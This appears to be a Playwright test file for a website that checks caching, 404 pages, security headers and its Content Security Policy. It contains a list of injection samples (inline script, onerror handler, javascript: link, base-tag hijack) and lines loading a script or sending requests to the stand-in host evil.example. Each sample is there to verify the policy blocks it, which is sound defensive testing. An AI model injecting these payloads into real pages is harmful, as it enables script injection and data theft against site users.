import { readFile } from 'node:fs/promises'
import { homeServices } from '@/content/request-kinds'
import { type PageRow, pages } from '@/routes'
import { headersFor } from '../build/headers'
import { expect, open, test } from './fixtures'

const addresses = pages.flatMap(({ path, aliases = [] }: PageRow) =>
  path.includes(':slug')
    ? Object.keys(homeServices).map((slug) => path.replace(':slug', slug))
    : [path, ...aliases],
)

test('pages are revalidated, and what they load is kept for a year', async ({ request, page }) => {
  await open(page, '/pricing')
  const script = await page.evaluate(
    () => performance.getEntriesByType('resource').find(({ name }) => name.endsWith('.js'))!.name,
  )
  expect((await request.get(script)).headers()['cache-control']).toBe(
    'public, max-age=31536000, immutable',
  )
  // By the file itself: the server of these tests would have pages revalidated without it.
  const file = await readFile('dist-embedded/_headers', 'utf8')
  for (const address of addresses)
    expect(headersFor(file, address)['Cache-Control'], address).toBe('no-cache')
})

test('an address without a page is answered as such, with the page that says so', async ({
  request,
}) => {
  for (const address of ['/no/such/page', '/services', '/pricing/no', '/assets/gone.js']) {
    const answer = await request.get(address)
    expect(answer.status(), address).toBe(404)
    expect(answer.headers()['cache-control'], address).toBe('no-cache')
    expect(await answer.text(), address).toContain('<title>Page not found</title>')
  }
})

test('every answer has the headers that protect it', async ({ request }) => {
  for (const address of [
    '/',
    '/services/legal',
    '/no/such/page',
    '/favicon.svg',
    '/rest/v1/posts',
  ]) {
    const headers = (await request.get(address)).headers()
    expect(headers, address).toMatchObject({
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'cross-origin-opener-policy': 'same-origin',
      'strict-transport-security': expect.stringContaining('max-age='),
      'permissions-policy': expect.stringContaining('camera=()'),
    })
    const policy = headers['content-security-policy']!
    expect(policy).toContain("default-src 'none'")
    expect(policy).toContain("frame-ancestors 'none'")
    expect(policy.match(/script-src [^;]*/)![0]).not.toMatch(/unsafe|\*|data:|https?:/)
  }
})

const attacks = {
  'a script within the page': () => {
    const script = document.createElement('script')
    script.textContent = 'document.title = "taken"'
    document.body.append(script)
  },
  'a handler in markup': () => {
    document.body.insertAdjacentHTML('beforeend', '<img src="" onerror="document.title=1">')
  },
  'a javascript: link': () => {
    const link = document.createElement('a')
    link.href = 'javascript:void(document.title="taken")'
    document.body.append(link)
    link.click()
  },
  'a script from elsewhere': () => {
    const script = document.createElement('script')
    script.src = 'https://evil.example/script.js'
    document.body.append(script)
  },
  'a request to elsewhere': () => {
    fetch('https://evil.example/').catch(() => undefined)
  },
  'a picture from elsewhere': () => {
    new Image().src = 'https://evil.example/picture.png'
  },
  'a base for the links': () => {
    document.head.insertAdjacentHTML('beforeend', '<base href="https://evil.example/">')
  },
  'a style within the page': () => {
    document.head.insertAdjacentHTML('beforeend', '<style>body { display: none }</style>')
  },
}

test.fail('what the policy blocks in any tab fails a test', async ({ context }) => {
  const page = await context.newPage()
  await open(page, '/about')
  const logged = page.waitForEvent('console')
  await page.evaluate(attacks['a script within the page'])
  await logged
})

test.describe('the policy', () => {
  test.use({ expectedErrors: /Content Security Policy|ERR_BLOCKED_BY_CSP/ })

  test('blocks what is not of the site', async ({ page }) => {
    await open(page, '/about')
    const title = await page.title()
    for (const [what, attack] of Object.entries(attacks)) {
      const logged = page.waitForEvent('console', (message) => message.type() === 'error')
      await page.evaluate(attack)
      expect((await logged).text(), what).toContain('Content Security Policy')
    }
    await expect(page).toHaveTitle(title)
    await expect(page).toHaveURL('/about')
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  })

  test('lets nobody frame a page', async ({ page }) => {
    await page.route('/framing', (route) =>
      route.fulfill({ contentType: 'text/html', body: '<iframe src="/pricing"></iframe>' }),
    )
    const logged = page.waitForEvent('console', (message) => message.type() === 'error')
    await page.goto('/framing')
    expect((await logged).text()).toContain('frame-ancestors')
    await expect(page.frameLocator('iframe').getByText('$29')).toBeHidden()
  })
})
